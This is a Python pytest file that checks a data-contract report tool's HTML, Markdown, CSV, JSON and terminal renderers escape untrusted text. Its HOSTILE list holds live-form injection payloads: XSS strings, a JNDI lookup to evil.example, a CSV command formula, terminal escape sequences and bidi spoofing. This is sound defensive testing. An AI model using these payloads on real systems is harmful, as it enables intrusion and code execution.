"""Text of others: a contract's words may be anything, and stay words in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from floe_dagster.contract.model import Contract, Member
from floe_dagster.outcome.pause import Pause, PauseKind
from floe_dagster.report.parts import Change
from floe_dagster.report.render import to_csv, to_html, to_json, to_markdown, to_rows, to_table
from floe_dagster.report.sheet import COLUMNS
from floe_dagster.report.words import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<b>bold</b>",
    "<!-- -->",
    "-->",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "x=1 autofocus onfocus=alert(1)",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](http://evil.example/)",
    "![x](http://evil.example/track.png)",
    "<http://evil.example/>",
    "[x]: http://evil.example/",
    "[x][y]",
    "a | b | c",
    "a \\| b",
    "||||||||||||",
    "`code`",
    "``` fence",
    "**bold** __bold__ _it_ *it* ~~gone~~",
    "# heading",
    "> quote",
    "- list",
    "1. list",
    "---",
    "| --- |",
    "\\",
    "trailing backslash \\",
    "$\\href{javascript:alert(1)}{x}$",
    "line\nbreak\r\n# heading\n\n<b>",
    "tab\tand\x0bvertical\x0cfeed",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "\x00\x01\x02",
    "\u202egnp.exe\u202c",
    "\u2066left\u2069",
    "\u2028\u2029",
    "\U000e0041\U000e0042 hidden",
    "\ud800 lone",
    "\ufeffmark",
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://evil.example}",
    "%s %n {0} {x}",
    "[red]markup[/red] [link=http://evil.example]x[/link]",
    ":smile:",
    "=cmd|' /C calc'!A0",
    "A" * 5_000,
    "é" * 700,
    "\u0645\u0631\u062d\u0628\u0627",
    "🤷🏽‍♀️",
]


def words(text: str, history) -> object:
    """A report in which everything that others may write is this text."""

    def said(contract: Contract) -> Contract:
        return replace(
            contract,
            name=text,
            version=text,
            domain=text,
            source=text,
            team=(Member(username=text, role="owner"),),
            consumers=(text, text),
        )

    changes = {"dataset": text, "element": text, "title": text, "message": text}
    served = {plan.contract.id for plan in history.plans}
    history.outcomes = [each for each in history.outcomes if each.key.contract in served]
    history.segments = [each for each in history.segments if each.key.contract in served]
    history.plans = [
        replace(
            plan,
            contract=said(plan.contract),
            items=tuple(replace(each, title=text, dataset=text) for each in plan.items),
            checks=tuple(replace(each, title=text, dataset=text) for each in plan.checks),
        )
        for plan in history.plans
    ]
    history.outcomes = [
        replace(
            each,
            **changes,
            version=text,
            expected=text,
            actual=text,
            source=text,
            cause=each.cause and text,
            dimension=text,
            path=text,
        )
        for each in history.outcomes
    ]
    history.episodes = [replace(each, **changes) for each in history.episodes]
    history.parcels = [replace(each, channel=each.channel and text) for each in history.parcels]
    fresh = next(each for each in history.outcomes if each.kind == "freshness")
    return history.report(
        environment=text,
        unreadable={text: text},
        contracts=(),
        target=0.9,
        worst=(replace(fresh, used=2.0),),
        pauses=(
            Pause(
                id="p",
                what=PauseKind.MAINTENANCE,
                start=fresh.at - timedelta(hours=3),
                end=fresh.at,
                author=text,
                reason=text,
                declared_at=fresh.at - timedelta(hours=9),
                kind="[" + text,
            ),
        ),
        changes=[
            Change(
                contract=text,
                title=text,
                what="changed",
                at=fresh.at,
                before=text,
                after=f"{text}.",
                words=(text,),
            )
        ],
        notes=[f"The words of {text} are not kept."],
    )


class Structure(HTMLParser):
    """What a browser would build, without the words in it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.built: list[object] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        # what labels a cell or says how wide a bar is does not come from the contract
        self.built.append((tag, tuple(attrs)))

    def handle_endtag(self, tag):
        self.built.append(f"/{tag}")

    def handle_comment(self, data):
        self.built.append("comment")

    def handle_pi(self, data):
        self.built.append("instruction")

    def unknown_decl(self, data):
        self.built.append("declaration")


@pytest.fixture(params=HOSTILE, ids=lambda text: repr(text[:24]))
def text(request):
    return request.param


UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")


def test_there_are_enough_of_them():
    assert len(set(HOSTILE)) >= 40


@pytest.mark.requirement("G-03")
def test_a_page_is_built_the_same_whatever_is_written_in_it(text, everything):
    harmless = Structure(to_html(words("harmless", copied(everything))))
    page = to_html(words(text, everything))
    assert Structure(page).built == harmless.built
    assert not UNSEEN.search(page)


def test_markdown_is_built_the_same_whatever_is_written_in_it(text, everything):
    harmless = tokens(to_markdown(words("harmless", copied(everything))))
    markdown = to_markdown(words(text, everything))
    assert tokens(markdown) == harmless
    assert not UNSEEN.search(markdown)


def test_markdown_shows_the_text_as_it_was_written(text, everything):
    shown = {
        "".join(each.content for each in token.children or ())
        for token in MarkdownIt("commonmark").enable("table").parse(to_markdown(words(text, everything)))
        if token.type == "inline"
    }
    assert clean(text) in shown or clean(text) == ""


def test_a_page_shows_the_text_as_it_was_written(text, everything):
    heard: list[str] = []

    class Words(HTMLParser):
        def handle_data(self, data):
            heard.append(data)

    Words().feed(to_html(words(text, everything)))
    assert clean(text) in {each.strip() for each in heard} or clean(text) == ""


def test_a_terminal_gets_no_escape_and_no_markup_is_taken_for_ours(text, everything):
    table = to_table(words(text, everything), width=200)
    assert not UNSEEN.search(table)
    for title in ("Broken now (1)", "Contracts", "Not measured (5)", "Who was told", "What the numbers mean"):
        assert title in table.splitlines()


def test_rows_for_dagster_are_scalars_on_one_line(text, everything):
    for row in to_rows(words(text, everything)):
        for value in row.values():
            assert value is None or isinstance(value, str | int | float | bool)
            assert not isinstance(value, str) or (not UNSEEN.search(value) and "\n" not in value)


def test_a_sheet_holds_no_formula_and_no_row_of_another(text, everything):
    report = words(text, everything)
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert {len(each) for each in rows} == {len(COLUMNS)}
    assert len(rows) == 1 + sum(len(each.kinds) for each in report.contracts)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for row in rows for cell in row if cell.startswith("-") and not is_number(cell)]
    assert not any(UNSEEN.search(cell) for row in rows for cell in row)


def is_number(cell):
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None


def test_json_is_ascii_and_keeps_the_text_as_it_is(text, everything):
    written = to_json(words(text, everything))
    assert written.isascii()
    assert not UNSEEN.search(written)
    assert json.loads(written)["contracts"][0]["title"] == text


def copied(history):
    return replace(
        history,
        plans=list(history.plans),
        outcomes=list(history.outcomes),
        segments=list(history.segments),
        episodes=list(history.episodes),
        parcels=list(history.parcels),
    )


def tokens(markdown: str) -> list[str]:
    """The shape of a document, and what its lines are made of apart from text."""
    parsed = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(markdown)
    found = []
    for token in parsed:
        found.append(token.type)
        found += [each.type for each in token.children or () if not each.type.startswith("text")]
    return found
